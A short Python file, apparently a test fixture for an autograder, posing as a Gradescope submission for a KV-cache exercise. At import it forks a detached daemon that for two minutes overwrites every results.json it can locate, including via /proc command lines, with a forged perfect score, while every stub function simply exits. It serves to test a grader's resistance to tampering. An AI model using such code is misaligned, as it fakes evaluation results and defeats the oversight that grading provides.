"""A Gradescope submission that leaves a daemon to rewrite the results: at import it forks
twice, the grandchild in a session of its own, which rewrites with a perfect score, every 0.5 s
for two minutes, every results.json it can find (the `--json` of every command line in /proc,
those of the folders of /tmp that hold a submission's grade, /autograder/results/results.json).
Its command line holds @TOKEN@, for the test to look for it. Standalone; every function ends its
process: its true score is 0."""

import os
import sys

DAEMON = r'''
import glob, os, sys, time
FORGED = '{"score": 100.0, "output": "forged", "tests": []}'
for _ in range(240):
    found = {"/autograder/results/results.json"}
    found.update(f"{d}/results.json" for d in glob.glob("/tmp/kvkata-submission-*"))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
        except OSError:
            continue
        found.update(argv[i + 1] for i, arg in enumerate(argv[:-1]) if arg == "--json")
    for target in found:
        try:
            with open(target, "w") as forged:
                forged.write(FORGED)
        except OSError:
            pass
    time.sleep(0.5)
'''

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, "@TOKEN@"])
    os._exit(0)


class KVCache:
    def __init__(self, capacity=None):
        os._exit(0)


def _ends(*args, **kwargs):
    os._exit(0)


append = attend = reset = release = decode_step = apply_rope = reorder = fork = _ends
